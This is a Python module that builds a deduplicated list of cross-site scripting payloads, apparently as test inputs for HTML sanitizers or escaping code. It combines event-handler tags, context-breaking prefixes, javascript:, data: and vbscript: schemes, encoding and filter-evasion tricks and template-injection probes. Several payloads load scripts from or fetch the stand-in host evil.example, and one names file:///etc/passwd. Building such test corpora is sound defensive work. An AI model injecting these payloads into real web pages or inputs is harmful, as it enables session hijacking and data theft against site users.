"""Texts that would run as a script wherever they are read as anything but text. Each calls `hurt` or opens a dialog."""

# ruff: noqa: E501  # a list to read as a list
from __future__ import annotations

import itertools
from typing import Final

RUN: Final = "hurt(1)"
EVENTS: Final = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"), ("details open", "ontoggle"), ("marquee", "onstart"), ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"), ("image src=x", "onerror"), ("embed src=x", "onerror"),
    ("a href=# autofocus tabindex=1", "onfocus"), ("div style=animation-name:x", "onanimationstart"), ("source src=x", "onerror"),
)  # fmt: skip
BREAKS: Final = ("", '">', "'>", "</p>", "-->", "</script>", "</title>", "</textarea>", "]]>", "`>", "</style>", "</noscript>")
SCHEMES: Final = (
    "javascript:hurt(1)", "JaVaScRiPt:hurt(1)", "java\tscript:hurt(1)", "java\nscript:hurt(1)", "\x01javascript:hurt(1)",
    "javascript&colon;hurt(1)", "javascript&#58;hurt(1)", "javascript://%0ahurt(1)", "data:text/html,<script>hurt(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5odXJ0KDEpPC9zY3JpcHQ+", "vbscript:hurt(1)", "blob:hurt(1)", "file:///etc/passwd",
    "//evil.example/x.js", "https://evil.example/x.js", "\\\\evil.example\\x",
)  # fmt: skip
WHOLE: Final = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\x0c>{RUN}</script>", f"<script/x>{RUN}</script >",
    f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞", f"‹script›{RUN}‹/script›", f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//evil.example/x.js></script>", f"<script type=module>{RUN}</script>", "<script>import('//evil.example/x.js')</script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} /></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={RUN}>", f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>#x'>",
    f"<svg><foreignObject><iframe onload={RUN}>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>", f"<embed src='javascript:{RUN}'>", f"<form action='javascript:{RUN}'><button autofocus>x",
    f"<button formaction='javascript:{RUN}'>x", f"<isindex type=image src=x onerror={RUN}>", f"<base href='javascript:{RUN}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=script href=//evil.example/x.js>", "<img src=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>", f"<div style='width:expression({RUN})'>x</div>",
    f"<template><script>{RUN}</script></template>", f"<portal src='data:text/html,<script>{RUN}</script>'>",
    f"<video><source onerror={RUN}></video>", f"<audio src onloadstart={RUN}>", f"<xml id=x><script>{RUN}</script></xml>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<!--<img src='--><img src=x onerror={RUN}//'>", f"<?xml version='1.0'?><script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"{{% {RUN} %}}", f"[[{RUN}]]",
    f"{{{{''.__class__.__mro__[1].__subclasses__()}}}}<b onclick={RUN}>", f"';{RUN};'", f'";{RUN};"', f"`;{RUN};`", f"\\';{RUN};//",
    f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"' autofocus onfocus={RUN} x='", f'" autofocus onfocus={RUN} x="', f"x onmouseover={RUN}", f"\u2028{RUN}\u2029", f"\u0000<script>{RUN}",
    f"<a href='javascript:{RUN}' autofocus>x</a>", f"<area href='javascript:{RUN}'>", f"<a xlink:href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})", f"![x](x onerror={RUN})", f"<b\u202e onclick={RUN}>", f"<\u200bscript>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>", f"<img src=x:x onerror=\u2028{RUN}>", f"<img/src/onerror={RUN}>", f"<img\tsrc=x\nonerror\r={RUN}>",
    f"<img src=`x`onerror={RUN}>", "<img src=x onerror='&#104;urt(1)'>", "<img src=x onerror=alert(1)>", "<svg/onload=alert`1`>",
    "<script>alert(1)</script>", "<svg><script>prompt(1)</script>", "<img src=x onerror=confirm(1)>", "<body onload=print()>",
    "<script>document.title='hurt'</script>", "<script>location='//evil.example'</script>", "<script>fetch('//evil.example')</script>",
    "<script>new Image().src='//evil.example'</script>", "<dialog open><form method=dialog><button>x", "<input type=image src=x onerror=hurt(1)>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return every text once."""
    handlers = [f"<{tag} {event}={RUN}>" for tag, event in EVENTS]
    broken = [f"{before}{handler}" for before, handler in itertools.product(BREAKS[1:], handlers[:6])]
    spelt = [f"<{tag.upper()} {event.upper()}='{RUN}'/>" for tag, event in EVENTS]
    links = [*SCHEMES, *(f"<a href='{scheme}'>x</a>" for scheme in SCHEMES), *(f"<iframe src='{scheme}'>" for scheme in SCHEMES[:8])]
    return list(dict.fromkeys([*handlers, *broken, *spelt, *links, *WHOLE]))
